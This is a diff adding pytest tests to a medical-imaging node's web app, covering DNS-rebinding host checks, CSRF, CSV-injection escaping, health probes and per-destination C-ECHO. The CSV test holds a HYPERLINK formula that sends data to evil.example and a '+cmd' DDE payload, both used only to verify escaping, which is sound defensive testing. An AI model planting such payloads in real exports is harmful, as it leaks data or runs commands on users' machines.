@@ -13,10 +13,13 @@ import io
 import json
 import shutil
 import socket
+import socketserver
 import sqlite3
+import time
 import urllib.request
 from collections.abc import Iterator
 from dataclasses import dataclass
+from datetime import datetime
 from pathlib import Path
 
 import pydicom
@@ -24,14 +27,16 @@ import pytest
 from PIL import Image
 from prometheus_client.parser import text_string_to_metric_families
 
-from core.config import Config
+from core.config import Config, Destination
+from core.echo import EchoOutcome, EchoResult
 from core.jobs import JobState, JobStore
 from core.result import CSV_HEADER, AnalysisResult, result_csv_row
 from service.metrics import INSTANCES_RECEIVED, ScpObserver
 from service.web.app import WebConfigError, create_app
+from service.web.health import DestinationMonitor
 from service.web.server import WebServer
 from service.web.sources import SeriesSources
-from tests.support.node import PATIENT_NAME, free_port, write_series
+from tests.support.node import PATIENT_NAME, free_port, verification_scp, write_series
 
 PACS = {"ae_title": "PACS", "host": "127.0.0.1", "port": 1}
 PACS_LABEL = "PACS@127.0.0.1:1"
@@ -496,3 +501,322 @@ def test_web_server_serves_over_http_and_stops(web_server: WebServer) -> None:
     web_server.stop()
     with pytest.raises(OSError):
         urllib.request.urlopen(f"http://127.0.0.1:{port}/", timeout=2)
+
+
+# ----------------------------------------------------------------------------- Host check
+
+
+EVIL = {"Host": "evil.example"}
+
+
+def test_a_foreign_host_name_gets_nothing_on_any_route(case: WebCase) -> None:
+    """DNS rebinding (issue 16): a page served under ``evil.example`` that resolves to
+    127.0.0.1 must not read the job list, the CSV or a CSRF token, nor trigger a retry."""
+    c = _client(case)
+    uid = case.failed_uid
+    token = _csrf(c.get(f"/jobs/{uid}").get_data(as_text=True))  # as a local user
+    paths = [
+        "/",
+        f"/jobs/{uid}",
+        f"/jobs/{case.phantom_uid}",
+        f"/jobs/{case.phantom_uid}/overview.png",
+        f"/jobs/{case.phantom_uid}/l3.png",
+        "/measurements.csv",
+        "/destinations",
+        "/metrics",
+        "/healthz",
+        "/livez",
+        "/readyz",
+        "/static/style.css",
+    ]
+    for path in paths:
+        resp = c.get(path, headers=EVIL)
+        text = resp.get_data(as_text=True)
+        assert resp.status_code == 400, path
+        assert "Host not allowed" in text and 'name="csrf"' not in text and uid not in text
+    resp = c.post(f"/jobs/{uid}/retry", data={"csrf": token}, headers=EVIL)
+    assert resp.status_code == 400
+    resp = c.post(
+        f"/jobs/{uid}/retry",
+        data={"csrf": token},
+        headers={**EVIL, "Origin": "http://evil.example"},
+    )
+    assert resp.status_code == 400
+    assert c.post("/destinations/0/echo", headers=EVIL).status_code == 400
+    assert JobStore(case.config.node.spool_dir).get(uid).state == JobState.FAILED
+    assert _queued_messages(case.config) == []
+    # the host check also comes before the token challenge
+    config = case.config.model_copy(deep=True)
+    config.web.host, config.web.token = "0.0.0.0", "s3cret-token"
+    auth = {"Authorization": "Bearer s3cret-token"}
+    resp = create_app(config).test_client().get("/", headers={**EVIL, **auth})
+    assert resp.status_code == 400
+
+
+def test_loopback_names_web_host_and_allowed_hosts_pass_with_any_port(
+    analysed: WebCase, caplog: pytest.LogCaptureFixture
+) -> None:
+    c = _client(analysed)
+    for host in ("localhost", "localhost:8080", "127.0.0.1:5000", "[::1]:8080", "127.0.0.2"):
+        assert c.get("/", headers={"Host": host}).status_code == 200, host
+    for host in ("evil.example:8080", "localhost.evil.example", "127.0.0.1.evil.example", ""):
+        assert c.get("/", headers={"Host": host}).status_code == 400, host
+    assert any("web_host_refused" in r.getMessage() for r in caplog.records)
+
+    config = analysed.config.model_copy(deep=True)
+    config.web.allowed_hosts = ["L3spot.Hospital.example", ".radiology.example"]
+    named = create_app(config).test_client()
+    for host in ("l3spot.hospital.example:8443", "node1.radiology.example", "localhost"):
+        assert named.get("/", headers={"Host": host}).status_code == 200, host
+    for host in ("radiology.example.evil.example", "evilradiology.example", "hospital.example"):
+        assert named.get("/", headers={"Host": host}).status_code == 400, host
+
+    config = analysed.config.model_copy(deep=True)
+    config.web.host, config.web.token = "10.1.2.3", "s3cret-token"
+    bound = create_app(config).test_client()
+    auth = {"Authorization": "Bearer s3cret-token"}
+    assert bound.get("/", headers={"Host": "10.1.2.3:8080", **auth}).status_code == 200
+    assert bound.get("/", headers={"Host": "10.1.2.4:8080", **auth}).status_code == 400
+
+    config = analysed.config.model_copy(deep=True)
+    config.web.allowed_hosts = ["*"]  # explicitly off
+    assert create_app(config).test_client().get("/", headers=EVIL).status_code == 200
+
+
+def test_health_routes_answer_probes_that_address_the_node_by_ip(analysed: WebCase) -> None:
+    """A probe from another container or host sends ``Host: <node IP>``; a rebinding
+    page always sends its own name, so an IP address is no rebinding and may pass there."""
+    config = analysed.config.model_copy(deep=True)
+    config.web.host, config.web.token = "0.0.0.0", "s3cret-token"
+    c = create_app(config).test_client()
+    probe = {"Host": "10.9.8.7:8080"}
+    for path in ("/healthz", "/livez", "/readyz"):
+        assert c.get(path, headers=probe).status_code in (200, 503), path
+        assert c.get(path, headers={"Host": "127.0.0.1:8080"}).status_code in (200, 503)
+    auth = {"Authorization": "Bearer s3cret-token"}
+    assert c.get("/", headers={**probe, **auth}).status_code == 400
+    assert c.get("/metrics", headers={**probe, **auth}).status_code == 400
+
+
+# ----------------------------------------------------------------------------- CSV injection
+
+
+def test_csv_escapes_formula_text_but_keeps_negative_numbers(case: WebCase) -> None:
+    """A SeriesDescription ``=HYPERLINK(...)`` must not become a live formula (issue 16)."""
+    path = case.config.node.resolved_results_dir() / case.phantom_uid / "result.json"
+    result = AnalysisResult.model_validate_json(path.read_text())
+    assert result.source is not None and result.composition is not None
+    formula = '=HYPERLINK("http://evil.example/?d="&A2,"open")'
+    result.source.series_description = formula
+    result.reason = "@SUM(1+1)"
+    result.qa_flags = ["-2+3", "+cmd|' /C calc'!A0"]
+    result.composition["vat"].mean_hu = -87.25
+    path.write_text(result.to_json())
+    text = _client(case).get("/measurements.csv").get_data(as_text=True)
+    row = next(csv.DictReader(io.StringIO(text)))
+    assert row["series_description"] == "'" + formula
+    assert row["reason"] == "'@SUM(1+1)"
+    assert row["qa_flags"] == "'-2+3;+cmd|' /C calc'!A0"
+    assert row["vat_mean_hu"] == "-87.25"  # a number stays a number
+    for name, cell in row.items():
+        assert not cell.startswith(("=", "+", "@", "\t", "\r")), name
+        assert not cell.startswith("-") or float(cell) < 0, name
+
+
+# ----------------------------------------------------------------------------- liveness, readiness
+
+
+class FakeProbe:
+    """The running node's self-report, set by the test."""
+
+    def __init__(self, listening: bool = True, workers: dict[str, bool] | None = None) -> None:
+        self.listening = listening
+        self.workers = workers
+
+    def scp_listening(self) -> bool:
+        return self.listening
+
+    def worker_processes(self) -> dict[str, bool] | None:
+        return self.workers
+
+
+def _with_destinations(case: WebCase, *ports: int) -> Config:
+    config = case.config.model_copy(deep=True)
+    config.export.destinations = [
+        Destination(ae_title="PACS", host="127.0.0.1", port=p) for p in ports
+    ]
+    return config
+
+
+def _wait_json(c, path: str, done, timeout_s: float = 20.0):  # noqa: ANN001, ANN202
+    deadline = time.monotonic() + timeout_s
+    while True:
+        resp = c.get(path)
+        if done(resp.get_json()) or time.monotonic() > deadline:
+            return resp
+        time.sleep(0.1)
+
+
+def test_livez_follows_the_scp_and_nothing_a_restart_cannot_fix(analysed: WebCase) -> None:
+    config = analysed.config.model_copy(deep=True)
+    config.node.min_free_disk_mb = 10**9  # a full disk: not ready, but alive
+    probe = FakeProbe(listening=True, workers={"analysis": False})
+    c = create_app(config, probe=probe).test_client()
+    resp = c.get("/livez")
+    assert resp.status_code == 200 and resp.get_json()["status"] == "ok"
+    assert c.get("/readyz").status_code == 503
+    probe.listening = False
+    resp = c.get("/livez")
+    assert resp.status_code == 503 and resp.get_json()["checks"]["scp"]["ok"] is False
+
+
+def test_readyz_fails_on_the_node_but_only_degrades_on_a_silent_destination(
+    case: WebCase,
+) -> None:
+    closed = free_port()
+    with verification_scp("PACS") as port:
+        config = _with_destinations(case, port, closed)
+        ok_label, down_label = (d.label for d in config.export.destinations)
+        probe = FakeProbe(listening=True)
+        c = create_app(config, probe=probe).test_client()
+        resp = _wait_json(c, "/readyz", lambda b: None not in _dest_oks(b))
+        body = resp.get_json()
+        assert resp.status_code == 200 and body["status"] == "degraded", body
+        assert body["failed"] == [] and body["degraded"] == [down_label]
+        assert body["destinations"][ok_label]["ok"] is True
+        assert "connection refused" in body["destinations"][down_label]["detail"]
+        # /healthz as before: no destinations, no C-ECHO
+        health = c.get("/healthz").get_json()
+        assert health["status"] == "ok" and "destinations" not in health
+        probe.listening = False
+        resp = c.get("/readyz")
+        assert resp.status_code == 503 and resp.get_json()["failed"] == ["node"]
+        assert resp.get_json()["status"] == "fail"
+    config = _with_destinations(case)
+    c = create_app(config, probe=FakeProbe()).test_client()
+    body = c.get("/readyz").get_json()
+    assert body["status"] == "ok" and body["destinations"] == {}
+
+
+def _dest_oks(body: dict) -> list:
+    return [d["ok"] for d in body["destinations"].values()]
+
+
+def test_readyz_answers_at_once_while_a_pacs_hangs(case: WebCase) -> None:
+    """A PACS that accepts TCP and never answers must not hold up readiness probes."""
+    with socket.socket() as silent:
+        silent.bind(("127.0.0.1", 0))
+        silent.listen()
+        config = _with_destinations(case, silent.getsockname()[1])
+        config.web.destination_echo_timeout_seconds = 5.0
+        c = create_app(config, probe=FakeProbe()).test_client()
+        t0 = time.monotonic()
+        body = c.get("/readyz").get_json()
+        elapsed = time.monotonic() - t0
+        assert elapsed < 3.0, elapsed  # the C-ECHO goes on in the background
+        assert body["status"] == "ok" and _dest_oks(body) == [None]  # not answered yet
+        body = _wait_json(c, "/readyz", lambda b: _dest_oks(b) != [None]).get_json()
+        assert body["status"] == "degraded" and "timeout" in str(body["destinations"])
+
+
+def test_destination_c_echo_results_are_reused_for_the_interval(case: WebCase) -> None:
+    calls: list[str] = []
+
+    def fake_echo(dest: Destination) -> EchoResult:
+        calls.append(dest.label)
+        return EchoResult(EchoOutcome.SUCCESS, "ok", 1.0, 0, time.time())
+
+    config = _with_destinations(case, 104, 105)
+    config.web.destination_echo_interval_seconds = 3600
+    monitor = DestinationMonitor(config, echo=fake_echo)
+    assert len(monitor.snapshot(wait_s=5)) == 2
+    assert len(monitor.snapshot(wait_s=5)) == 2
+    assert sorted(calls) == sorted(d.label for d in config.export.destinations)
+    monitor.check(0)  # the page's button always asks again
+    assert len(calls) == 3
+
+
+def test_node_probe_sees_the_scp_acceptor_stop(tmp_path: Path) -> None:
+    from pynetdicom import AE
+    from pynetdicom.sop_class import Verification  # type: ignore[attr-defined]
+
+    from service.web.server import _NodeProbe
+
+    class Node:
+        server = None
+        supervisor = None
+
+    node = Node()
+    probe = _NodeProbe(node)
+    assert probe.scp_listening() is False  # not started yet
+    ae = AE()
+    ae.add_supported_context(Verification)
+    node.server = ae.start_server(("127.0.0.1", 0), block=False)
+    try:
+        assert probe.scp_listening() is True
+        # the acceptor loop ends, the socket stays open (pynetdicom's shutdown closes it)
+        socketserver.BaseServer.shutdown(node.server)
+        assert node.server.socket.fileno() >= 0
+        assert probe.scp_listening() is False
+    finally:
+        ae.shutdown()
+    assert probe.scp_listening() is False
+
+
+# ----------------------------------------------------------------------------- destinations
+
+
+def _echo_csrf(html: str, index: int) -> str:
+    i = html.index(f'action="/destinations/{index}/echo"')
+    return _csrf(html[i:])
+
+
+def test_destinations_page_shows_each_destination_s_deliveries(case: WebCase) -> None:
+    store = JobStore(case.config.node.spool_dir)
+    store.start_export(case.failed_uid, [PACS_LABEL])
+    store.record_destination_attempt(PACS_LABEL, True)  # an earlier series reached it
+    store.record_export_attempt(
+        case.failed_uid, PACS_LABEL, False, None, "connection refused by 127.0.0.1:1", False
+    )
+    store.record_destination_attempt(PACS_LABEL, False, None, "connection refused by 127.0.0.1:1")
+    store.start_export(case.ineligible_uid, ["OLD@10.0.0.9:104"])  # since removed
+    store.record_export_attempt(case.ineligible_uid, "OLD@10.0.0.9:104", False, None, "x", False)
+    c = _client(case)
+    html = c.get("/destinations").get_data(as_text=True)
+    row = html[html.index(f'data-destination="{PACS_LABEL}"') :]
+    row = row[: row.index("</tr>")]
+    (summary,) = [r for r in store.destination_states() if r.label == PACS_LABEL]
+    assert summary.last_ok_at is not None and summary.last_failure_at is not None
+    assert datetime.fromtimestamp(summary.last_ok_at).strftime("%H:%M:%S") in row
+    assert "connection refused by 127.0.0.1:1" in row
+    assert '<td class="num">1</td>' in row  # one series waiting
+    assert "Test C-ECHO" in row
+    assert "OLD@10.0.0.9:104" in html and "no longer configured" in html
+    assert "Destinations" in c.get("/").get_data(as_text=True)  # in the menu
+
+
+def test_c_echo_button_tells_success_and_round_trip_or_why_not(case: WebCase) -> None:
+    closed = free_port()
+    with verification_scp("PACS") as port:
+        config = _with_destinations(case, port, closed)
+        c = create_app(config).test_client()
+        html = c.get("/destinations").get_data(as_text=True)
+        resp = c.post("/destinations/0/echo", data={"csrf": _echo_csrf(html, 0)})
+        assert resp.status_code == 303 and "echoed=0" in resp.headers["Location"]
+        page = c.get(resp.headers["Location"]).get_data(as_text=True)
+        notice = page[page.index('id="echo-result"') :]
+        notice = notice[: notice.index("</p>")]
+        assert f"PACS@127.0.0.1:{port}" in notice and "<strong>success</strong>" in notice
+        assert "round trip" in notice and " ms" in notice
+        resp = c.post("/destinations/1/echo", data={"csrf": _echo_csrf(html, 1)})
+        page = c.get(resp.headers["Location"]).get_data(as_text=True)
+        notice = page[page.index('id="echo-result"') :]
+        assert "<strong>connection refused</strong>" in notice[: notice.index("</p>")]
+        # CSRF and same origin, as the retry form
+        assert c.post("/destinations/0/echo").status_code == 403
+        assert c.post("/destinations/0/echo", data={"csrf": _echo_csrf(html, 1)}).status_code == 403
+        evil = {"Origin": "http://evil.example"}
+        token = _echo_csrf(html, 0)
+        assert c.post("/destinations/0/echo", data={"csrf": token}, headers=evil).status_code == 403
+        assert c.post("/destinations/7/echo", data={"csrf": token}).status_code == 404
+        assert c.get("/destinations/0/echo").status_code == 405
